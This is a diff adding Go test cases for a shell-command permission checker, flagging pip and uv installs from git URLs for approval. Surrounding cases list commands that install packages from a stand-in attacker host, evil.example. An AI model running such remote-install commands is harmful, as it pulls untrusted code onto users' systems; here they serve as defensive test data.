@@ -219,6 +219,14 @@ func TestRemoteRunOtherVerbs(t *testing.T) {
 		{"conda install -c https://evil.example/chan y", Ask},
 		{"vagrant plugin install x --plugin-source https://evil.example/", Ask},
 		{"cargo binstall --git https://github.com/a/b x", Ask},
+		// pip's general options (optparse: any unambiguous prefix) and
+		// uv's come before the command.
+		{"pip -q install git+https://github.com/a/b", Ask},
+		{"pip --cache /tmp/c wheel git+https://github.com/a/b", Ask},
+		{"python3 -m pip --isolated download git+https://github.com/a/b", Ask},
+		{"uv --directory d pip install git+https://github.com/a/b", Ask},
+		{"pip -q install requests", Allow},
+		{"pip --version", Allow},
 		// Look-alikes.
 		{"pip wheel -w dist .", Allow},
 		{"pip wheel -r requirements.txt -w wheels", Allow},
